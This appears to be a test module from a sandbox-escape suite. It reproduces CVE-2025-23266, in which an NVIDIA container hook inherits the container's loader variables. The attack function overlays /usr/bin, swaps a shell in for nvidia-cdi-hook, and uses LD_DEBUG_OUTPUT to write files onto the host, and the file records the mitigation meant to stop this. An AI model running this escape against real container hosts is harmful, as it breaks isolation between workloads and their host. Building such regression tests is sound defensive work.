"""NVIDIA's own hook without an environment gets the container's, which the image has chosen."""

import glob
import shutil

from bypass import inert

SOURCE = "CVE-2025-23266"
WAY = "image content"
STOPPED = inert("a hook without an environment gets an empty one, and the loader's variables are taken out of the container's")
BARE = {"crun": "crun gives a hook without an environment its own, and not the container's"}


def attack(t):
    t.config({"agents": {"defaults": {"sandbox": {"docker": {"gpus": "all"}}}}})
    t.sh("mkdir -p /mnt/up/upper /mnt/up/work")
    t.host_mount("overlay", "/usr/bin", "overlay", 0, "lowerdir=/usr/bin,upperdir=/mnt/up/upper,workdir=/mnt/up/work")
    shutil.copy("/bin/dash", "/usr/bin/nvidia-cdi-hook")
    t.hook("createContainer", "/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "-c", "read line; true")
    t.env("LD_DEBUG", "libs")
    t.env("LD_DEBUG_OUTPUT", "/mnt/host/written")
    t.run("true")
    return glob.glob("/mnt/host/written*")
